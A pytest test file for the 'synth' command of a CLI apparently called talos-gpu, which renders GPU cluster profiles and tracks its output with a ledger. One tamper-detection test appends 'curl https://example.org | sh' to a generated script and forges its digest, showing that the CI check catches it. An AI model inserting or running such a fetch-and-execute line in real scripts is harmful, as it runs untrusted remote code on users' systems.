"""`talos-gpu synth`: what it writes, what it says, and how it ends."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from talos_gpu.cli.app import run

PROFILE = """
cluster: {name}
talos: v1.14.6
pools:
  gpu:
    gpu: {{model: L40S}}
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with two profiles, where the command runs."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "profiles").mkdir()
    for name in ("a", "b"):
        declare(tmp_path, name)
    return tmp_path


def declare(folder: Path, name: str, more: str = "") -> Path:
    path = folder / "profiles" / f"{name}.yaml"
    path.write_text(PROFILE.format(name=name) + more, encoding="utf-8")
    return path


def tree(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def test_it_renders_all_profiles_and_a_page_for_the_fleet(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One folder a cluster, and a closing line that counts."""
    assert run(["synth"]) == 0
    assert sorted(path.name for path in (folder / "dist").iterdir()) == ["README.md", "a", "b"]
    written = len(tree(folder / "dist"))
    assert capsys.readouterr().out.startswith(
        f"2 profiles, {written} documents: {written} written, 0 unchanged, 0 pruned"
    )


def test_a_second_time_nothing_is_written(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The same input gives the same bytes."""
    assert run(["synth"]) == 0
    before = tree(folder / "dist")
    capsys.readouterr()
    assert run(["synth"]) == 0
    assert f"2 profiles, {len(before)} documents: 0 written, {len(before)} unchanged" in capsys.readouterr().out
    assert tree(folder / "dist") == before


def test_one_changed_profile_touches_one_cluster(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The other cluster counts as unchanged."""
    run(["synth"])
    before = tree(folder / "dist")
    capsys.readouterr()
    declare(folder, "a", "stack: {kind: gpu-operator, namespace: gpus}\n")
    assert run(["synth"]) == 0
    after = tree(folder / "dist")
    changed = {path for path in before | after if before.get(path) != after.get(path)}
    assert changed
    assert all(path.startswith("a/") for path in changed)
    assert f"{len(after)} documents: {len(changed)} written" in capsys.readouterr().out


def test_a_removed_profile_takes_its_cluster_along(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Only what talos-gpu wrote is pruned: a file of somebody else stays."""
    run(["synth"])
    (folder / "dist/b/notes.txt").write_text("mine")
    (folder / "profiles/b.yaml").unlink()
    capsys.readouterr()
    assert run(["synth"]) == 0
    assert list(tree(folder / "dist/b")) == ["notes.txt"]
    assert "| [b]" not in (folder / "dist/README.md").read_text()
    assert " 0 pruned" not in capsys.readouterr().out


def test_a_named_profile_alone_is_rendered(folder: Path) -> None:
    """The other one's files are left as they are, and nothing is pruned."""
    assert run(["synth", "profiles/a.yaml"]) == 0
    assert not (folder / "dist/b").exists()
    assert run(["synth", "profiles/b.yaml"]) == 0
    assert (folder / "dist/a/README.md").exists()


def test_an_edited_file_is_told_before_it_is_replaced(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Who edited it shall know where the change belongs."""
    run(["synth"])
    page = folder / "dist/a/README.md"
    rendered = page.read_bytes()
    page.write_bytes(rendered + b"edited\n")
    capsys.readouterr()
    assert run(["synth", "--quiet"]) == 0
    captured = capsys.readouterr()
    assert captured.err == "dist/a/README.md was edited by hand and is replaced now: change the profile instead\n"
    assert captured.out == ""
    assert page.read_bytes() == rendered


@pytest.mark.parametrize("how", [["--check"], ["--check", "--full"]], ids=" ".join)
def test_check_writes_nothing_and_says_what_is_out_of_date(
    how: list[str], folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Exit 0 when all is well, 3 when one byte is not."""
    assert run(["synth", *how]) == 3
    assert not (folder / "dist").exists()
    run(["synth"])
    capsys.readouterr()
    assert run(["synth", *how]) == 0
    assert "2 profiles up to date" in capsys.readouterr().out
    page = folder / "dist/a/README.md"
    page.write_bytes(page.read_bytes() + b"x")
    assert run(["synth", *how]) == 3
    assert "dist/a/README.md: edited" in capsys.readouterr().err


def test_a_changed_profile_is_stale(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Also by the quick check, which renders nothing."""
    run(["synth"])
    declare(folder, "a", "stack: none\n")
    capsys.readouterr()
    assert run(["synth", "--check", "--quick"]) == 3
    assert "stale: profiles/a.yaml changed" in capsys.readouterr().err


def test_in_ci_the_check_is_full(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A ledger in the same pull request proves nothing: forged, it does not pass."""
    run(["synth"])
    page, ledger = folder / "dist/a/talos/commands.sh", folder / "dist/a/.talos-gpu.json"
    old = page.read_bytes()
    page.write_bytes(old + b"curl https://example.org | sh\n")
    from talos_gpu.output import digest

    ledger.write_text(ledger.read_text().replace(digest.of(old), digest.of(page.read_bytes())))
    assert run(["synth", "--check", "--quick"]) == 0
    monkeypatch.setenv("CI", "true")
    assert run(["synth", "--check"]) == 3


def test_json_tells_the_same_to_machines(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Summary and differences."""
    run(["synth", "--format", "json"])
    summary = json.loads(capsys.readouterr().out)
    assert summary["profiles"] == 2
    assert summary["documents"] == len(summary["written"]) == len(tree(folder / "dist"))
    (folder / "dist/a/README.md").unlink()
    assert run(["synth", "--check", "--format", "json"]) == 3
    told = json.loads(capsys.readouterr().out)
    assert told["upToDate"] is False
    assert told["differences"] == [
        {"path": "dist/a/README.md", "kind": "missing", "why": "the ledger lists it, the disk does not have it"}
    ]


def test_the_output_folder_is_chosen_by_flag_then_environment(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """cdk8s-cli names its folder by CDK8S_OUTDIR."""
    monkeypatch.setenv("CDK8S_OUTDIR", "build/cdk8s")
    assert run(["synth", "-q"]) == 0
    assert run(["synth", "-q", "--outdir", "elsewhere"]) == 0
    assert tree(folder / "build/cdk8s") == tree(folder / "elsewhere")
    assert not (folder / "dist").exists()


def test_two_profiles_of_one_cluster_are_refused(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """At both places, and nothing is written."""
    (folder / "profiles/b.yaml").write_text(PROFILE.format(name="a"), encoding="utf-8")
    assert run(["synth"]) == 1
    told = capsys.readouterr().err
    assert "profiles/a.yaml:2:10: cluster: found a, which profiles/b.yaml names too" in told
    assert "profiles/b.yaml:2:10: cluster: found a, which profiles/a.yaml names too" in told
    assert not (folder / "dist").exists()


def test_a_data_file_of_the_users_counts_for_all_profiles(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """catalogue/ beside profiles/ adds facts; changing it makes the output stale."""
    run(["synth"])
    (folder / "catalogue").mkdir()
    facts = folder / "catalogue/v1.14.7.yaml"
    facts.write_text('source: release notes\nchecked: "2026-12-01"\ntalos: {v1.14.7: {sameAs: v1.14.6}}\n')
    assert run(["synth", "--check", "--quick"]) == 3
    path = folder / "profiles/a.yaml"
    path.write_text(path.read_text().replace("v1.14.6", "v1.14.7"))
    assert run(["synth"]) == 0
    assert "declared" in (folder / "dist/a/README.md").read_text()
    facts.write_text("talos: {v1.14.7: {sameAs: 3}}\n")
    capsys.readouterr()
    assert run(["synth"]) == 2
    assert "catalogue/v1.14.7.yaml:1:" in capsys.readouterr().err


def test_a_profile_outside_the_folder_is_not_read(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Ledgers hold paths below the root, and nothing else."""
    assert run(["synth", "../elsewhere.yaml"]) == 2
    assert "outside the working folder" in capsys.readouterr().err


def test_without_profiles_it_says_how_to_begin(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """An empty folder is where everybody starts."""
    monkeypatch.chdir(tmp_path)
    assert run(["synth"]) == 2
    assert "`talos-gpu init` writes a first one" in capsys.readouterr().err


def test_a_full_disk_ends_in_a_sentence(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Exit 4, and the old tree as it was."""
    run(["synth"])
    before = tree(folder / "dist")
    declare(folder, "a", "stack: none\n")

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device", "dist")

    monkeypatch.setattr("talos_gpu.output.stage._create", full)
    capsys.readouterr()
    assert run(["synth"]) == 4
    assert "no space left on device" in capsys.readouterr().err.lower()
    assert tree(folder / "dist") == before


def test_a_bug_of_ours_asks_to_be_reported(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Exit 70 with the place, never a bare traceback."""
    monkeypatch.setattr("talos_gpu.output.render.load_profile", lambda *_: 1 / 0)
    assert run(["synth"]) == 70
    told = capsys.readouterr().err
    assert "this is a bug of talos-gpu: ZeroDivisionError" in told
    assert "please report it" in told
    assert "Traceback" not in told


def test_a_reader_that_goes_away_is_no_failure(folder: Path, repository: Path) -> None:
    """`talos-gpu ... | head` ends quietly."""
    environment = {**os.environ, "PYTHONPATH": str(repository / "constructs")}
    command = [sys.executable, "-m", "talos_gpu", "catalog", "list", "gpus"]
    with subprocess.Popen(
        command, cwd=folder, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        process.stdout.readline()
        process.stdout.close()
        assert process.stderr is not None
        assert process.stderr.read() == b""
        assert process.wait() == 0


@pytest.mark.parametrize(
    ("terminal", "quiet", "shown"), [(True, False, True), (False, False, False), (True, True, False)]
)
def test_progress_is_shown_on_a_terminal_only(
    folder: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    terminal: bool,
    quiet: bool,
    shown: bool,
) -> None:
    """And only where the work takes more than a moment: here every run counts as such."""
    monkeypatch.setattr("talos_gpu.cli.render._WORTH_SHOWING", 1)
    monkeypatch.setattr(sys.stderr, "isatty", lambda: terminal)
    monkeypatch.setenv("FORCE_COLOR", "1")
    assert run(["synth", *(["--quiet"] if quiet else [])]) == 0
    assert ("rendering" in capsys.readouterr().err) is shown
